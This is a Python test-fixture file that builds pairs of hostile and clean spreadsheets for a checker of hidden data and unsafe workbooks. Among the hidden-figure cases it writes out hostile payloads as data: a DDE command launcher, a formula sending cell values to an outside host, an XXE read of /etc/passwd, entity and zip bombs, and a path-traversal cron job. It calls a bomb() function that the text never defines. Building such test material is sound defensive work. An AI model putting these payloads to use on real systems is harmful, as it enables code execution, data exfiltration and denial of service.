"""Workbooks that hide something, each beside an innocent one that looks much the same."""
import re

from archive import Entry, archive
from workbooks import HEAD, MAIN, OFFICE, SHEET, TABLE, Book, Sheet, cell, relationship, relationships, styles

PATIENTS = [["NHS number", "Age", "Stage"], ["943 476 5919", 71, "III"], ["401 023 2137", 64, "II"],
            ["987 654 4321", 58, "IV"]]
SECOND = [["Sex", "Surgery", "No surgery", "Total"], ["Female", 80, 79, 159], ["Male", 79, 85, 164],
          ["Total", 159, 164, 323]]
WHITE = '<font><sz val="11"/><color rgb="FFFFFFFF"/><name val="Calibri"/></font>'
DRAWINGS = "http://schemas.openxmlformats.org/drawingml/2006/"
THEME = (f'{HEAD}<a:theme xmlns:a="{DRAWINGS}main" name="Office"><a:themeElements><a:clrScheme name="Office">'
         '<a:dk1><a:sysClr val="windowText" lastClr="000000"/></a:dk1><a:lt1><a:sysClr val="window" lastClr="FFFFFF"/></a:lt1>'
         '<a:dk2><a:srgbClr val="44546A"/></a:dk2><a:lt2><a:srgbClr val="E7E6E6"/></a:lt2>'
         '<a:accent1><a:srgbClr val="4472C4"/></a:accent1><a:accent2><a:srgbClr val="ED7D31"/></a:accent2>'
         '<a:accent3><a:srgbClr val="A5A5A5"/></a:accent3><a:accent4><a:srgbClr val="FFC000"/></a:accent4>'
         '<a:accent5><a:srgbClr val="5B9BD5"/></a:accent5><a:accent6><a:srgbClr val="70AD47"/></a:accent6>'
         '<a:hlink><a:srgbClr val="0563C1"/></a:hlink><a:folHlink><a:srgbClr val="954F72"/></a:folHlink>'
         "</a:clrScheme></a:themeElements></a:theme>")


def font(colour):
    return f'<font><sz val="11"/><color {colour}/><name val="Calibri"/></font>'


def fill(colour):
    return f'<fill><patternFill patternType="solid"><fgColor {colour}/><bgColor indexed="64"/></patternFill></fill>'


def two_sheets(state):
    return Book(Sheet(), Sheet("Patients", PATIENTS, state))


def rows(attributes, extra=""):
    sheet = Sheet()
    for row, text in attributes.items():
        sheet.row_attributes[row] = " " + text
    sheet.extra_rows = extra
    return Book(sheet)


def columns(xml, values=True):
    table = [row + [["Deaths", 21, 34, 47, 25, 127][i]] for i, row in enumerate(TABLE)] if values else TABLE
    sheet = Sheet(rows=table)
    sheet.before = f"<cols>{xml}</cols>"
    return Book(sheet)


def coloured(fonts=(), fills=(), formats=(), xf=(1, 0, 0), where=((3, 1),), theme=None):
    sheet = Sheet()
    for place in where:
        sheet.styles[place] = 1
    book = Book(sheet)
    book.styles = styles(fonts, fills, formats, [xf])
    book.theme = theme
    return book


def conditional(dxf, rule):
    sheet = Sheet()
    sheet.after = f'<conditionalFormatting sqref="B2:C5">{rule}</conditionalFormatting>'
    book = Book(sheet)
    book.styles = styles().replace("</cellXfs>", f'</cellXfs><dxfs count="1"><dxf>{dxf}</dxf></dxfs>')
    return book


def noted(comment=None, threaded=None, person=None):
    book = Book()
    if comment:
        book.sheet_part(0, "xl/comments1.xml",
                        f'{HEAD}<comments xmlns="{MAIN}"><authors><author>A. Analyst</author></authors><commentList>'
                        f'<comment ref="B3" authorId="0"><text><r><t>{comment}</t></r></text></comment></commentList>'
                        "</comments>", "comments", SHEET + "comments+xml")
    if threaded:
        book.sheet_part(0, "xl/threadedComments/threadedComment1.xml",
                        f'{HEAD}<ThreadedComments xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments">'
                        f'<threadedComment ref="C5" dT="2026-01-01T00:00:00" personId="{{1}}" id="{{2}}"><text>{threaded}</text>'
                        "</threadedComment></ThreadedComments>",
                        "http://schemas.microsoft.com/office/2017/10/relationships/threadedComment",
                        "application/vnd.ms-excel.threadedcomments+xml")
    if person:
        book.part("xl/persons/person.xml",
                  f'{HEAD}<personList xmlns="http://schemas.microsoft.com/office/spreadsheetml/2018/threadedcomments">'
                  f'<person displayName="{person}" id="{{1}}" userId="a.analyst@nhs.example" providerId="AD"/></personList>',
                  "http://schemas.microsoft.com/office/2017/10/relationships/person",
                  content_type="application/vnd.ms-excel.person+xml")
    return book


def pivot(items=0, records=0):
    book = Book()
    shared = "".join(f'<s v="P{i:04}"/>' for i in range(items))
    book.part("xl/pivotCache/pivotCacheDefinition1.xml",
              f'{HEAD}<pivotCacheDefinition xmlns="{MAIN}" xmlns:r="{OFFICE}" r:id="r1" recordCount="{records}">'
              '<cacheSource type="worksheet"><worksheetSource ref="A1:G51" sheet="Patients"/></cacheSource>'
              f'<cacheFields count="2"><cacheField name="patient"><sharedItems>{shared}</sharedItems></cacheField>'
              '<cacheField name="cost"><sharedItems containsNumber="1"/></cacheField></cacheFields></pivotCacheDefinition>',
              "pivotCacheDefinition", content_type=SHEET + "pivotCacheDefinition+xml")
    if records:
        book.parts["xl/pivotCache/_rels/pivotCacheDefinition1.xml.rels"] = relationships(
            relationship("r1", "pivotCacheRecords", "pivotCacheRecords1.xml"))
        book.parts["xl/pivotCache/pivotCacheRecords1.xml"] = (
            f'{HEAD}<pivotCacheRecords xmlns="{MAIN}" count="{records}">'
            + "".join(f'<r><x v="{i}"/><n v="{1000 + 37 * i}"/></r>' for i in range(records)) + "</pivotCacheRecords>")
        book.types["xl/pivotCache/pivotCacheRecords1.xml"] = SHEET + "pivotCacheRecords+xml"
    return book


def shared_strings(*orphans):
    table = [list(row) for row in TABLE]
    texts = []
    for row in table:
        for i, value in enumerate(row):
            if isinstance(value, str):
                row[i] = ("s", f"<v>{len(texts)}</v>")
                texts.append(value)
    book = Book(Sheet(rows=table))
    items = "".join(f"<si><t>{t.replace('<', '&lt;')}</t></si>" for t in [*texts, *orphans])
    book.part("xl/sharedStrings.xml", f'{HEAD}<sst xmlns="{MAIN}" count="{len(texts)}" uniqueCount="{len(texts)}">{items}</sst>',
              "sharedStrings", content_type=SHEET + "sharedStrings+xml")
    return book


def external(cached):
    book = Book()
    data = ('<sheetDataSet><sheetData sheetId="0"><row r="2"><cell r="A2"><v>943476</v></cell><cell r="B2"><v>3</v></cell>'
            "</row></sheetData></sheetDataSet>") if cached else ""
    book.part("xl/externalLinks/externalLink1.xml",
              f'{HEAD}<externalLink xmlns="{MAIN}" xmlns:r="{OFFICE}"><externalBook r:id="r1"><sheetNames>'
              f'<sheetName val="Patients"/></sheetNames>{data}</externalBook></externalLink>',
              "externalLink", content_type=SHEET + "externalLink+xml")
    book.parts["xl/externalLinks/_rels/externalLink1.xml.rels"] = relationships(
        relationship("r1", "externalLinkPath", r"file:///\\registry01\safe\patients.xlsx", True))
    return book


def named(*names):
    book = Book()
    book.names = list(names)
    return book


def formula(row, col, text, result, kind=None, base=TABLE):
    table = [list(r) for r in base]
    escaped = text.replace("&", "&amp;").replace("<", "&lt;")
    table[row - 1][col] = (kind, f"<f>{escaped}</f><v>{str(result).replace('<', '&lt;')}</v>")
    return Book(Sheet(rows=table))


SUPPRESSED = [["Age band", "Surgery"], ["<50", 24], ["50-64", 45], ["65-79", 61], ["80+", "<10"]]
SHARES = [["Age band", "Patients", "Percent"], ["<50", 24, 15.1], ["50-64", 45, 28.3], ["65-79", 61, 38.4], ["80+", 29, 18.2]]


def part(path, content, kind, content_type=None):
    return Book().part(path, content, kind, "/" + path, content_type)


def embedded():
    book = Book()
    return book.sheet_part(0, "xl/embeddings/Microsoft_Excel_Sheet1.xlsx", two_sheets(None).bytes(), "package")


def embedded_object():
    """An OLE object that a sheet shows as a picture: a whole document of another program."""
    book = Book()
    book.sheets[0].after = '<oleObjects><oleObject progId="Word.Document.8" shapeId="1025" r:id="r1"/></oleObjects>'
    data = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504) + b"943 476 5919;71;III".ljust(512, b"\0")
    return book.sheet_part(0, "xl/embeddings/oleObject1.bin", data, "oleObject", OFFICE.replace("relationships", "oleObject"))


def chart(reference, values, title="Surgery by age"):
    book = Book()
    book.sheets[0].after = '<drawing r:id="s1"/>'
    book.sheet_part(0, "xl/drawings/drawing1.xml",
                    f'{HEAD}<xdr:wsDr xmlns:xdr="{DRAWINGS}spreadsheetDrawing" xmlns:a="{DRAWINGS}main"><xdr:twoCellAnchor>'
                    "<xdr:from><xdr:col>5</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>1</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:from>"
                    "<xdr:to><xdr:col>12</xdr:col><xdr:colOff>0</xdr:colOff><xdr:row>16</xdr:row><xdr:rowOff>0</xdr:rowOff></xdr:to>"
                    '<xdr:graphicFrame><a:graphic><a:graphicData uri="http://schemas.openxmlformats.org/drawingml/2006/chart">'
                    f'<c:chart xmlns:c="{DRAWINGS}chart" xmlns:r="{OFFICE}" r:id="r1"/></a:graphicData></a:graphic></xdr:graphicFrame>'
                    "<xdr:clientData/></xdr:twoCellAnchor></xdr:wsDr>",
                    "drawing", "application/vnd.openxmlformats-officedocument.drawing+xml")
    book.parts["xl/drawings/_rels/drawing1.xml.rels"] = relationships(relationship("r1", "chart", "../charts/chart1.xml"))
    points = "".join(f'<c:pt idx="{i}"><c:v>{v}</c:v></c:pt>' for i, v in enumerate(values))
    book.parts["xl/charts/chart1.xml"] = (
        f'{HEAD}<c:chartSpace xmlns:c="{DRAWINGS}chart" xmlns:a="{DRAWINGS}main"><c:chart><c:title><c:tx><c:rich><a:p><a:r>'
        f"<a:t>{title}</a:t></a:r></a:p></c:rich></c:tx></c:title><c:plotArea><c:barChart><c:ser><c:idx val=\"0\"/><c:val><c:numRef>"
        f'<c:f>{reference}</c:f><c:numCache><c:formatCode>General</c:formatCode><c:ptCount val="{len(values)}"/>{points}</c:numCache>'
        "</c:numRef></c:val></c:ser></c:barChart></c:plotArea></c:chart></c:chartSpace>")
    book.types["xl/charts/chart1.xml"] = "application/vnd.openxmlformats-officedocument.drawingml.chart+xml"
    return book


def far(row, col, value, area=None):
    sheet = Sheet()
    sheet.extra_rows = f'<row r="{row}">{cell(row, col, value)}</row>' if value is not None else ""
    book = Book(sheet)
    if area:
        book.names = [("_xlnm.Print_Area", f"'Table 1'!{area}", ' localSheetId="0"')]
    return book


def sheet_with(after="", before=""):
    sheet = Sheet()
    sheet.after, sheet.before = after, before
    return Book(sheet)


def changed(change):
    """The plain workbook with its parts changed."""
    parts = {e.name.decode(): e.data.decode() for e in Book().entries()}
    change(parts)
    return archive([Entry(name, data) for name, data in parts.items()])


def replaced(path, old, new):
    def change(parts):
        assert old in parts[path], (path, old)
        parts[path] = parts[path].replace(old, new, 1)
    return changed(change)


def unlisted_sheet():
    book = Book()
    return book.part("xl/worksheets/sheet9.xml", Sheet("Patients", PATIENTS).xml(), "worksheet",
                     content_type=SHEET + "worksheet+xml")


def encrypted():
    """The start of a compound file with the streams of an encrypted workbook."""
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    names = b"".join(n.encode("utf-16-le").ljust(128, b"\0") for n in ("Root Entry", "EncryptionInfo", "EncryptedPackage"))
    return head + names.ljust(1024, b"\0")


def old_workbook():
    head = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(504)
    return head + b"".join(n.encode("utf-16-le").ljust(128, b"\0") for n in ("Root Entry", "Workbook")).ljust(1024, b"\0")


def cases(add):
    plain = Book().bytes()

    def pair(name, hostile, clean, verdict, rule, where, says, extension="xlsx"):
        add(name, extension, hostile if isinstance(hostile, bytes) else hostile.bytes(),
            clean if isinstance(clean, bytes) else clean.bytes(), verdict, rule, where, says)

    both_seen = Book(Sheet(), Sheet("Table 2", SECOND))
    pair("hidden-sheet", two_sheets("hidden"), both_seen, "FAIL", "FILE-004", "Patients!A1:C4", "is hidden and holds 12 cells in 4 rows and 3 columns")
    pair("very-hidden-sheet", two_sheets("veryHidden"), both_seen, "FAIL", "FILE-004", "Patients!A1:C4", "is very hidden and holds 12 cells")
    pair("unlisted-sheet", unlisted_sheet(), both_seen, "FAIL", "FILE-004", "", "sheet9.xml")
    pair("hidden-row", rows({4: 'hidden="1"'}), rows({}, '<row r="8" hidden="1"/>'), "FAIL", "FILE-004", "Table 1!A4:D4", "Row 4 is hidden and holds 4 cells")
    pair("hidden-column", columns('<col min="5" max="5" width="9" hidden="1"/>'), columns('<col min="6" max="16384" width="9" hidden="1"/>'), "FAIL", "FILE-004", "Table 1!E1:E6", "Column E is hidden and holds 6 cells")
    pair("zero-width-column", columns('<col min="5" max="5" width="0" customWidth="1"/>'), columns('<col min="6" max="6" width="0" customWidth="1"/>', False), "FAIL", "FILE-004", "Table 1!E1:E6", "6 cells")
    pair("sliver-column", columns('<col min="5" max="5" width="0.14" customWidth="1"/>'), columns('<col min="5" max="5" width="5.7" customWidth="1"/>'), "FAIL", "FILE-004", "Table 1!E1:E6", "6 cells")
    pair("zero-height-row", rows({4: 'ht="0" customHeight="1"'}), rows({4: 'ht="15" customHeight="1"'}), "FAIL", "FILE-004", "Table 1!A4:D4", "4 cells")
    pair("sliver-row", rows({4: 'ht="0.75" customHeight="1"'}), rows({4: 'ht="9" customHeight="1"'}), "FAIL", "FILE-004", "Table 1!A4:D4", "4 cells")
    pair("collapsed-group", rows({3: 'outlineLevel="1" hidden="1"', 4: 'outlineLevel="1" hidden="1"', 5: 'collapsed="1"'}),
         rows({3: 'outlineLevel="1"', 4: 'outlineLevel="1"'}), "FAIL", "FILE-004", "Table 1!A3:D4", "Rows 3 to 4 are hidden and hold 8 cells")
    hidden_by_filter = rows({3: 'hidden="1"'})
    hidden_by_filter.sheets[0].after = '<autoFilter ref="A1:D6"><filterColumn colId="0"><filters><filter val="80+"/></filters></filterColumn></autoFilter>'
    pair("filtered-rows", hidden_by_filter, sheet_with('<autoFilter ref="A1:D6"/>'), "FAIL", "FILE-004", "Table 1!A3:D3", "hidden and holds 4 cells")
    merged_over = sheet_with('<mergeCells count="1"><mergeCell ref="B3:C3"/></mergeCells>')
    titled = Book(Sheet(rows=[["Table 1. Surgery by age band", None, None, None], *TABLE]))
    titled.sheets[0].after = '<mergeCells count="1"><mergeCell ref="A1:D1"/></mergeCells>'
    pair("under-merged-cells", merged_over, titled, "FAIL", "FILE-004", "Table 1!B3:C3", "hides 1 cell")

    legible = coloured([WHITE], [fill('rgb="FF1F3864"')], xf=(1, 2, 0), where=((1, 0), (1, 1), (1, 2), (1, 3)))
    pair("white-text", coloured([WHITE], where=((3, 1), (3, 2))), legible, "FAIL", "FILE-004", "Table 1!B3:C3", "2 cells")
    pair("white-text-by-theme", coloured([font('theme="0"')], theme=THEME), coloured([font('theme="1" tint="0.35"')], theme=THEME), "FAIL", "FILE-004", "Table 1!B3", "1 cell")
    pair("white-text-by-index", coloured([font('indexed="9"')]), coloured([font('indexed="8"')]), "FAIL", "FILE-004", "Table 1!B3", "1 cell")
    pair("font-as-fill", coloured([font('rgb="FFFFC000"')], [fill('rgb="FFFFC000"')], xf=(1, 2, 0)), coloured([font('rgb="FF000000"')], [fill('rgb="FFFFC000"')], xf=(1, 2, 0)), "FAIL", "FILE-004", "Table 1!B3", "1 cell")
    pair("font-as-fill-with-tint", coloured([font('rgb="FF8FAADC"')], [fill('theme="4" tint="0.3999"')], xf=(1, 2, 0), theme=THEME), coloured([font('theme="1"')], [fill('theme="4" tint="0.3999"')], xf=(1, 2, 0), theme=THEME), "FAIL", "FILE-004", "Table 1!B3", "1 cell")
    white_run = replaced("xl/worksheets/sheet1.xml", "<is><t>80+</t></is>", '<is><r><t>80+</t></r><r><rPr><color rgb="FFFFFFFF"/></rPr><t> (3 of them)</t></r></is>')
    pair("white-run", white_run, plain, "FAIL", "FILE-004", "Table 1!A5", "1 cell")
    pair("three-semicolons", coloured(formats=[";;;"], xf=(0, 0, 164)), coloured(formats=['#,##0;-#,##0;"-"'], xf=(0, 0, 164)), "FAIL", "FILE-004", "Table 1!B3", "1 cell")
    pair("three-semicolons-over-text", coloured(formats=[";;;"], xf=(0, 0, 164), where=((3, 0),)), coloured(formats=["0;-0;0;@"], xf=(0, 0, 164), where=((3, 0),)), "FAIL", "FILE-004", "Table 1!A3", "1 cell")
    white_rule = '<cfRule type="cellIs" dxfId="0" priority="1" operator="lessThan"><formula>50</formula></cfRule>'
    pair("white-by-condition", conditional('<font><color rgb="FFFFFFFF"/></font>', white_rule), conditional('<font><color rgb="FF9C0006"/></font><fill><patternFill><bgColor rgb="FFFFC7CE"/></patternFill></fill>', white_rule), "REVIEW", "FILE-004", "Table 1!B2:C5", "condition")

    pair("note", noted(comment="really 3, see NHS 943 476 5919"), plain, "FAIL", "FILE-004", "Table 1!B3", "comment of 30 characters")
    pair("threaded-comment", noted(threaded="this one is 3", person="A. Analyst"), plain, "FAIL", "FILE-004", "Table 1!C5", "comment of 13 characters")
    pair("person", noted(person="A. Analyst"), plain, "REVIEW", "FILE-004", "", "names")
    pair("pivot-records", pivot(50, 50), plain, "FAIL", "FILE-004", "", "50 records")
    pair("pivot-items", pivot(12), plain, "FAIL", "FILE-004", "", "12 values")
    pair("orphan-shared-strings", shared_strings("K0001 Jane Roe", "K0002 John Doe"), shared_strings(), "FAIL", "FILE-004", "", "2 texts that no cell shows")
    pair("external-link-with-cells", external(True), plain, "FAIL", "FILE-004", "", "keeps 2 of its cells")
    pair("external-link-server", external(False), plain, "FAIL", "FILE-004", "", "another workbook")
    pair("name-with-constants", named(("counts", "{3,7,12}", "")), named(("counts", "'Table 1'!$B$2:$C$5", ""), ("_xlnm.Print_Titles", "'Table 1'!$1:$1", ' localSheetId="0"')), "FAIL", "FILE-004", "", '"counts" holds 3 values')
    pair("name-hidden", named(("counts", "'Table 1'!$B$2:$C$5", ' hidden="1"')), named(("_xlnm._FilterDatabase", "'Table 1'!$A$1:$D$6", ' localSheetId="0" hidden="1"')), "REVIEW", "FILE-004", "", "is hidden")
    pair("name-broken", named(("gone", "#REF!$A$1", "")), named(("kept", "'Table 1'!$A$1", "")), "REVIEW", "FILE-004", "", "no longer there")

    suppressed = Book(Sheet(rows=SUPPRESSED))
    pair("formula-with-literal", formula(5, 1, 'IF(3<10,"<10",3)', "<10", "str", SUPPRESSED), suppressed, "FAIL", "FILE-004", "Table 1!B5", "number that the mark hides")
    pair("formula-that-rounds", formula(2, 1, "MROUND(23,5)", 25, None, SUPPRESSED), formula(2, 1, "ROUND(C2,0)", 24, None, [row + [value] for row, value in zip(SUPPRESSED, ["All", 40, 60, 80, 20])]), "FAIL", "FILE-004", "Table 1!B2", "number")
    pair("formula-of-constants", formula(2, 1, "3+21", 24), formula(2, 3, "B2+C2", 55), "REVIEW", "FILE-004", "Table 1!B2", "")
    stored = Book(Sheet(rows=[SHARES[0], ["<50", 24, 15.0943396], *SHARES[2:]]))
    stored.sheets[0].styles[(2, 2)] = 1
    stored.styles = styles(formats=["0.0"], cells=[(0, 0, 164)])
    as_shown = Book(Sheet(rows=SHARES))
    as_shown.sheets[0].styles[(2, 2)] = 1
    as_shown.styles = styles(formats=["0.0"], cells=[(0, 0, 164)])
    pair("stored-finer-than-shown", stored, as_shown, "REVIEW", "FILE-005", "Table 1!C2", "")

    pair("data-model", part("xl/model/item.data", b"\0" * 64, "http://schemas.microsoft.com/office/2011/relationships/powerPivotData"), plain, "FAIL", "FILE-004", "", "data model")
    pair("power-query", Book().part("customXml/item1.xml", f'{HEAD}<DataMashup xmlns="http://schemas.microsoft.com/DataMashup">UEsDBBQAAgAIAA==</DataMashup>', "customXml", "../customXml/item1.xml"), plain, "FAIL", "FILE-004", "", "customXml/item1.xml")
    pair("connections", part("xl/connections.xml", f'{HEAD}<connections xmlns="{MAIN}"><connection id="1" name="registry" type="5"><dbPr connection="Server=registry01;Database=cancer" command="SELECT * FROM patients"/></connection></connections>', "connections", SHEET + "connections+xml"), plain, "FAIL", "FILE-004", "", "source of data")
    pair("custom-xml", Book().part("customXml/item1.xml", f"{HEAD}<patients><p>943 476 5919</p></patients>", "customXml", "../customXml/item1.xml"), plain, "FAIL", "FILE-004", "", "characters that no sheet shows")
    properties = Book()
    properties.package.append(relationship("r9", "custom-properties", "docProps/custom.xml"))
    properties.parts["docProps/custom.xml"] = (f'{HEAD}<Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/custom-properties" xmlns:vt="http://schemas.openxmlformats.org/officeDocument/2006/docPropsVTypes">'
                                               '<property fmtid="{D5CDD505-2E9C-101B-9397-08002B2CF9AE}" pid="2" name="PatientCount"><vt:i4>3</vt:i4></property></Properties>')
    told = "tells how many people"
    pair("count-in-a-defined-name", named(("women_died_3", "'Table 1'!$B$2", "")), named(("women_by_stage_3", "'Table 1'!$B$2", "")), "FAIL", "FILE-004", "", told)
    styled = Book()
    styled.styles = styles(formats=['"3 women died"'])
    as_money = Book()
    as_money.styles = styles(formats=['"GBP 3"'])
    pair("count-in-a-format", styled, as_money, "FAIL", "FILE-004", "", told)
    pair("count-in-a-font", replaced("xl/styles.xml", "Calibri", "3 women died"), plain, "FAIL", "FILE-004", "", told)
    pair("count-in-an-attribute", replaced("xl/worksheets/sheet1.xml", "<sheetData>", '<sheetData women-died="3">'), plain, "FAIL", "FILE-004", "", told)
    pair("count-in-a-condition", sheet_with('<conditionalFormatting sqref="A2"><cfRule type="expression" priority="1"><formula>LEN("3 women died")</formula></cfRule></conditionalFormatting>'),
         sheet_with('<conditionalFormatting sqref="A2"><cfRule type="expression" priority="1"><formula>LEN("women who died")</formula></cfRule></conditionalFormatting>'), "FAIL", "FILE-004", "", told)
    pair("custom-properties", properties, plain, "FAIL", "FILE-004", "", "property")
    described, titled, remarked, authored = Book(), Book(), Book(), Book()
    for book, words in ((described, "<dc:description>80+ was 3, 7 and 9</dc:description>"), (titled, "<dc:title>3 women died</dc:title>"),
                        (remarked, "<!-- 3 women died -->"), (authored, "<dc:creator>A. Analyst</dc:creator><dc:title>Table 3</dc:title>")):
        book.package.append(relationship("r9", f"{'http://schemas.openxmlformats.org/package/2006/relationships/metadata/core-properties'}", "docProps/core.xml"))
        book.parts["docProps/core.xml"] = (f'{HEAD}<cp:coreProperties xmlns:cp="http://schemas.openxmlformats.org/package/2006/metadata/core-properties" xmlns:dc="http://purl.org/dc/elements/1.1/">{words}</cp:coreProperties>')
        book.types["docProps/core.xml"] = "application/vnd.openxmlformats-package.core-properties+xml"
    pair("description-property", described, authored, "REVIEW", "FILE-004", "", "property")
    pair("title-property", titled, authored, "FAIL", "FILE-004", "", told)
    pair("remark-in-properties", remarked, authored, "FAIL", "FILE-004", "", "remarks of")
    pair("embedded-workbook", embedded(), plain, "FAIL", "FILE-004", "", "embedded document")
    pair("embedded-object", embedded_object(), plain, "FAIL", "FILE-004", "", "embedded document")
    pair("macro", part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(60), "http://schemas.microsoft.com/office/2006/relationships/vbaProject"), plain, "FAIL", "FILE-009", "", "is a macro")
    macros = part("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0" + bytes(60), "http://schemas.microsoft.com/office/2006/relationships/vbaProject")
    macros.main_type = "application/vnd.ms-excel.sheet.macroEnabled.main+xml"
    pair("macro-workbook-named-xlsx", macros, plain, "FAIL", "FILE-001", "", "macros")
    pair("macro-workbook", macros, plain, "FAIL", "FILE-001", "", "without macros", "xlsm")
    pair("dde-link", part("xl/externalLinks/externalLink1.xml", f'{HEAD}<externalLink xmlns="{MAIN}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>', "externalLink", SHEET + "externalLink+xml"), plain, "FAIL", "FILE-009", "", "DDE")
    pair("formula-outside", formula(2, 3, 'WEBSERVICE("https://example.org/?n="&B2)', 55), formula(2, 3, "SUM(B2:C2)", 55), "FAIL", "FILE-009", "Table 1!D2", "reaches outside")
    pair("chart-of-deleted-sheet", chart("Patients!$B$2:$B$7", [3, 1, 4, 1, 5, 9]), chart("'Table 1'!$B$2:$B$5", [24, 45, 61, 29]), "FAIL", "FILE-004", "Table 1!F2", "6 values")
    pair("chart-with-other-values", chart("'Table 1'!$B$2:$B$5", [24, 45, 3, 29]), chart("'Table 1'!$B$2:$B$5", [24, 45, 61, 29]), "FAIL", "FILE-004", "Table 1!F2", "1 value")
    undrawn = chart("'Table 1'!$B$2:$B$5", [24, 45, 61, 29])
    undrawn.parts["xl/drawings/drawing1.xml"] = re.sub("<xdr:twoCellAnchor>.*</xdr:twoCellAnchor>", "", undrawn.parts["xl/drawings/drawing1.xml"])
    pair("chart-that-nothing-draws", undrawn, chart("'Table 1'!$B$2:$B$5", [24, 45, 61, 29]), "FAIL", "FILE-004", "", "no sheet shows")
    pair("outside-print-area", far(8, 7, "see the list of names", "$A$1:$D$6"), far(8, 7, None, "$A$1:$D$6"), "REVIEW", "FILE-004", "Table 1!H8", "print area")
    pair("far-away-cell", far(900, 51, "stage IV, 71 years"), far(8, 0, "Source: registry"), "REVIEW", "FILE-004", "Table 1!AZ900", "away")
    pair("last-cell-of-all", far(1048576, 16383, 3), plain, "FAIL", "FILE-001", "", "Table 1")
    pair("revision-log", part("xl/revisions/revisionLog1.xml", f'{HEAD}<revisions xmlns="{MAIN}"><rcc rId="1" sId="1"><oc r="B5"><v>3</v></oc><nc r="B5" t="inlineStr"><is><t>&lt;10</t></is></nc></rcc></revisions>', "revisionLog", SHEET + "revisionLog+xml"), plain, "FAIL", "FILE-004", "", "earlier values")
    pair("footer-with-figures", sheet_with("<headerFooter><oddFooter>&amp;L80+ was 3&amp;RPage &amp;P</oddFooter></headerFooter>"), sheet_with("<headerFooter><oddFooter>&amp;CPage &amp;P of &amp;N</oddFooter></headerFooter>"), "REVIEW", "FILE-004", "Table 1", "footer")
    validation = '<dataValidations count="1"><dataValidation type="list" sqref="B2"{0}><formula1>{1}</formula1></dataValidation></dataValidations>'
    pair("validation-list", sheet_with(validation.format("", "\"943 476 5919,401 023 2137\"")), sheet_with(validation.format("", "$A$2:$A$5")), "REVIEW", "FILE-004", "Table 1!B2", "list")
    pair("xml-comment", replaced("xl/worksheets/sheet1.xml", "<sheetData>", "<sheetData><!-- 943 476 5919: 3 -->"), plain, "FAIL", "FILE-004", "", "xl/worksheets/sheet1.xml")
    pair("second-value-of-a-cell", replaced("xl/worksheets/sheet1.xml", "<is><t>80+</t></is>", "<is><t>80+</t></is><v>3</v>"), plain, "FAIL", "FILE-004", "Table 1!A5", "")
    pair("reading-aid", replaced("xl/worksheets/sheet1.xml", "<is><t>80+</t></is>", '<is><t>80+</t><rPh sb="0" eb="3"><t>three of them</t></rPh></is>'), plain, "REVIEW", "FILE-004", "Table 1!A5", "")

    spare = Entry("xl/worksheets/sheet7.xml", Sheet("Patients", PATIENTS).xml())
    pair("unreferenced-part", archive([*Book().entries(), spare]), plain, "FAIL", "FILE-004", "", "xl/worksheets/sheet7.xml belongs to nothing")
    small = [*TABLE[:4], ["80+", 3, 37, 40], TABLE[5]]
    second = [e for e in Book(Sheet(rows=small)).entries() if e.name == b"xl/worksheets/sheet1.xml"]
    pair("duplicate-entry", archive([*Book().entries(), *second]), plain, "FAIL", "FILE-001", "", "two entries of one name")
    second[0].name = b"xl/WORKSHEETS/sheet1.xml"
    pair("duplicate-entry-by-case", archive([*Book().entries(), *second]), plain, "FAIL", "FILE-001", "", "two entries of one name")
    pair("trailing-data", plain + b"943 476 5919;71;III\n" * 20, plain, "FAIL", "FILE-004", "", "400 bytes follow the end")
    pair("zip-comment", archive(Book().entries(), comment=b"943 476 5919;71;III"), plain, "FAIL", "FILE-004", "", "comment of 19 bytes")
    pair("bytes-between-entries", archive(Book().entries(), gap=b"943 476 5919;71;III\n" * 5), plain, "FAIL", "FILE-004", "", "100 bytes")
    pair("bytes-before", b"943 476 5919;71;III\n" + plain, plain, "FAIL", "FILE-001", "", "")
    pair("traversal", archive([*Book().entries(), Entry("../../../etc/cron.d/x", "* * * * * root id")]), plain, "FAIL", "FILE-004", "", "belongs to nothing")

    linked = [e for e in two_sheets(None).entries() if e.name != b"xl/worksheets/sheet2.xml"]
    pair("link", archive([*Book().entries(), Entry("xl/media/patients.csv", "/safe/patients.csv", link=True)]), plain, "FAIL", "FILE-004", "", "belongs to nothing")
    pair("link-for-a-sheet", archive([*linked, Entry("xl/worksheets/sheet2.xml", "/safe/patients.xml", link=True)]), both_seen, "FAIL", "FILE-001", "", "")

    pair("bomb-by-sum", archive([*Book().entries(), *(Entry(f"xl/media/image{i}.png", bytes(99), claimed=1 << 30) for i in range(3))]), plain, "FAIL", "FILE-001", "", "unpacks to more than")
    pair("bomb-by-ratio", bomb(), plain, "FAIL", "FILE-001", "", "times its size")
    overlapping = Book().entries()
    pair("entry-with-two-names", archive(overlapping, names=[(overlapping[-1], f"xl/worksheets/sheet{i}.xml") for i in range(2, 40)]), plain, "FAIL", "FILE-001", "", "two names")
    inner = Entry("xl/worksheets/sheet2.xml", Sheet().xml())
    cover = Entry("xl/worksheets/sheet1.xml", inner.header(True) + inner.packed)
    kept = [e for e in Book().entries() if e.name != cover.name]
    pair("bomb-by-overlap", archive([*kept, cover], inner=inner), plain, "FAIL", "FILE-001", "", "overlap")
    laughs = "".join(f'<!ENTITY l{i} "{f"&l{i - 1};" * 10 if i else "lol"}">' for i in range(10))
    pair("bomb-by-entities", replaced("xl/worksheets/sheet1.xml", "<worksheet ", f"<!DOCTYPE x [{laughs}]><worksheet "), plain, "FAIL", "FILE-001", "", "document type")
    pair("outside-entity", replaced("xl/worksheets/sheet1.xml", "<worksheet ", '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><worksheet '), plain, "FAIL", "FILE-001", "", "document type")
    pair("truncated", plain[: len(plain) - 200], plain, "FAIL", "FILE-001", "", "cut off")
    pair("encrypted", encrypted(), plain, "FAIL", "FILE-001", "", "password")
    pair("old-workbook", old_workbook(), plain, "FAIL", "FILE-001", "", ".xlsx", "xls")
    pair("old-workbook-named-xlsx", old_workbook(), plain, "FAIL", "FILE-001", "", "old binary kind")
